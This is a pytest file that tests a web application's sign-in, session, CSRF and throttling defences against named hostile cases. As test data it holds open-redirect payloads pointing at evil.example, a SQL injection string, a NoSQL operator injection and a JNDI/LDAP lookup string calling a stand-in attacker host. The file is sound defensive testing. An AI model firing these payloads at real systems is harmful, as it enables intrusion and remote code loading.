"""Sign-in, sessions and sign-out, with the hostile cases S1–S6, A2–A5 and C1–C3."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest
import sqlalchemy as sa
from werkzeug.datastructures import Headers

from matchmaker.accounts.models import Session, User
from matchmaker.database import access
from matchmaker.extensions import db
from matchmaker.web.identity import DRAFT_KEY
from tests.factories.make import PASSWORD

OUTSIDE = (
    "//evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "/\t/evil.example",
    "\t//evil.example",
    " //evil.example",
    "https://evil.example",
    "http:evil.example",
    "//user@evil.example",
    "https://localhost@evil.example",
    "https://localhost.evil.example",
    "javascript:alert(1)",
    "data:text/html,x",
    "///evil.example",
    "/%0d%0a//evil.example\r\n",
    "evil.example/home",
)


def sign_in(client, user, password=PASSWORD, **kwargs):
    return client.submit("/sign-in", {"email": user.email, "password": password}, **kwargs)


def cookie(client):
    return client.get_cookie("session").value


def test_right_password_signs_in(client, make):
    user = make.user()

    answer = sign_in(client, user)

    assert (answer.status_code, answer.location) == (303, "/home")
    assert client.get("/account").status_code == 200


def test_address_is_taken_whatever_its_capitals(client, make):
    make.user("camille@exemple.fr")

    answer = client.submit("/sign-in", {"email": " Camille@Exemple.FR ", "password": PASSWORD})

    assert answer.status_code == 303


def test_unconfirmed_account_is_sent_its_link_again(client, make, mails):
    user = make.user(confirmed_at=None)

    answer = sign_in(client, user)

    assert answer.location == "/register/check-your-mail"
    assert [mail.kind for mail in mails()] == ["accounts.confirm"]
    assert client.get("/account").status_code == 302


def test_s1_planted_cookie_is_replaced_and_stays_anonymous(client, app, make):
    client.get("/sign-in")
    planted = cookie(client)

    sign_in(client, make.user())

    assert cookie(client) != planted
    attacker = app.test_client()
    attacker.set_cookie("session", planted)
    assert attacker.get("/account").status_code == 302


def test_signing_in_keeps_the_key_of_anonymous_drafts_only(client, make):
    with client.session_transaction() as session:
        session[DRAFT_KEY], session["planted"] = "draft", "x"

    sign_in(client, make.user())

    with client.session_transaction() as session:
        assert session[DRAFT_KEY] == "draft"
        assert "planted" not in session


def test_s2_copied_cookie_is_dead_after_sign_out(client, app, make):
    sign_in(client, make.user())
    copied = cookie(client)

    client.submit("/account", {}, form="form[action='/sign-out']")

    thief = app.test_client()
    thief.set_cookie("session", copied)
    assert thief.get("/account").status_code == 302


def test_s3_sign_out_needs_a_post_with_its_token(client, make):
    sign_in(client, make.user())

    assert client.get("/sign-out").status_code == 405
    assert client.post("/sign-out").status_code == 400

    assert client.get("/account").status_code == 200


@pytest.mark.parametrize("name", ["session", "remember_token"])
@pytest.mark.parametrize(
    "value", ["x", "é", "a" * 4000, "eyJfdXNlcl9pZCI6IjEifQ.aaaa.bbbb", "1|deadbeef", "..", "\\x00", "%00"]
)
def test_s4_forged_cookies_are_anonymous(client, name, value):
    headers = Headers([("Cookie", f"{name}={value}".encode().decode("latin-1"))])

    assert client.get("/account", headers=headers).status_code == 302
    assert client.get("/sign-in", headers=headers).status_code == 200


def test_s5_private_pages_are_not_stored(client, make):
    sign_in(client, make.user())

    assert client.get("/account").headers["Cache-Control"] == "no-store, private"


def test_s6_password_changed_elsewhere_ends_this_session(client, app, make):
    user, other = make.user(), app.test_client()
    sign_in(client, user)
    sign_in(other, user)

    other.submit("/account/password", {"current": PASSWORD, "password": "un tout autre marché"})

    assert client.get("/account").status_code == 302
    assert other.get("/account").status_code == 200


def test_s6_disabled_account_is_out_at_the_next_request(client, app, make):
    user = make.user()
    sign_in(client, user)

    with app.app_context(), access(read_only=False):
        db.session.get_one(User, user.id).disabled_at = datetime.now(UTC)
        db.session.commit()

    assert client.get("/account").status_code == 302
    assert sign_in(client, user).status_code == 422


@pytest.mark.parametrize("target", OUTSIDE)
def test_a2_next_stays_at_home(client, make, target):
    page = client.get("/sign-in", query_string={"next": target})
    token = page.soup.select_one("main input[name=csrf_token]")["value"]
    data = {"email": make.user().email, "password": PASSWORD, "csrf_token": token}

    answer = client.post("/sign-in", query_string={"next": target}, data=data)

    assert answer.location == "/home"


def test_a2_inner_next_is_honoured(client, make):
    answer = client.submit(
        "/sign-in?next=/suppliers%3Fpage%3D2", {"email": make.user().email, "password": PASSWORD}
    )

    assert answer.location == "/suppliers?page=2"


@pytest.mark.parametrize(
    ("email", "password"),
    [
        ("' OR 1=1 --", "x"),
        ("camille@exemple.fr\x00", "x\x00"),
        ("${jndi:ldap://evil.example/a}", "${jndi:ldap://evil.example/a}"),
        ("camille@exemple.fr", "x" * 2_000_000),
        ("a" * 5000, "x"),
        ("", ""),
    ],
)
def test_a3_hostile_values_do_not_sign_in(client, make, email, password):
    make.user("camille@exemple.fr")

    answer = client.submit("/sign-in", {"email": email, "password": password})

    assert 400 <= answer.status_code < 500
    assert client.get("/account").status_code == 302


def test_a3_arrays_do_not_sign_in(client, make):
    make.user("camille@exemple.fr")

    answer = client.submit(
        "/sign-in", {"email[]": "camille@exemple.fr", "password[$ne]": "x", "password": None}
    )

    assert answer.status_code == 422


def test_a4_unknown_address_is_answered_like_a_wrong_password(client, make):
    wrong = sign_in(client, make.user("connue@exemple.fr"), "pas le bon mot")
    unknown = client.submit("/sign-in", {"email": "inconnue@exemple.fr", "password": "pas le bon mot"})

    assert wrong.status_code == unknown.status_code == 422
    assert wrong.texts("#error-summary") == unknown.texts("#error-summary")


def test_a4_unknown_address_costs_a_check_too(client, monkeypatch):
    from matchmaker.accounts import passwords

    checked = []
    monkeypatch.setattr(passwords, "matches", lambda known, typed: bool(checked.append(known)))

    client.submit("/sign-in", {"email": "inconnue@exemple.fr", "password": "x"})

    assert checked == [passwords.NOBODY]


def test_a5_right_password_is_refused_after_too_many_wrong_ones(client, app, make):
    user, other = make.user(), make.user()
    answers = [sign_in(client, user, "pas le bon mot").status_code for _ in range(12)]

    last = sign_in(client, user)

    assert answers == [422] * 10 + [429] * 2
    assert last.status_code == 429
    assert 0 < int(last.headers["Retry-After"]) <= 301
    assert sign_in(app.test_client(), other).status_code == 303


def test_a5_throttle_does_not_tell_whether_the_address_is_known(client):
    unknown = {"email": "inconnue@exemple.fr", "password": "pas le bon mot"}

    answers = [client.submit("/sign-in", unknown).status_code for _ in range(11)]

    assert answers == [422] * 10 + [429]


def test_a5_reset_unlocks(client, make, last_link):
    user = make.user()
    for _ in range(11):
        sign_in(client, user, "pas le bon mot")

    client.submit("/password/forgotten", {"email": user.email})
    client.submit(last_link(), {"password": "un tout autre marché"})
    client.submit("/account", {}, form="form[action='/sign-out']")

    assert sign_in(client, user, "un tout autre marché").status_code == 303


@pytest.mark.parametrize("token", [None, "", "wrong", "IjEyMyI.aaaa.bbbb"])
@pytest.mark.parametrize("address", ["/sign-in", "/register", "/password/forgotten"])
def test_c1_forms_without_their_token_do_nothing(client, make, address, token):
    user = make.user()

    values = {"email": user.email, "password": PASSWORD, "csrf_token": token}
    answer = client.post(address, data={name: value for name, value in values.items() if value is not None})

    assert answer.status_code == 400
    assert client.get("/account").status_code == 302


def test_c2_token_of_another_browser_does_not_sign_in(client, app, make):
    token = app.test_client().get("/sign-in").soup.select_one("main input[name=csrf_token]")["value"]

    answer = client.post(
        "/sign-in", data={"email": make.user().email, "password": PASSWORD, "csrf_token": token}
    )

    assert answer.status_code == 400


def test_c3_get_with_the_form_s_fields_does_not_sign_in(client, make):
    answer = client.get("/sign-in", query_string={"email": make.user().email, "password": PASSWORD})

    assert answer.status_code == 200
    assert client.get("/account").status_code == 302


def test_cookie_holds_no_trace_of_the_person_and_the_row_no_token(client, app, make):
    user = make.user()
    sign_in(client, user)

    with client.session_transaction() as session:
        token = session["_user_id"]
    with app.app_context():
        row = db.session.execute(sa.select(Session)).scalar_one()
        assert row.user_id == user.id
        assert row.token_digest != token
    assert len(token) >= 32
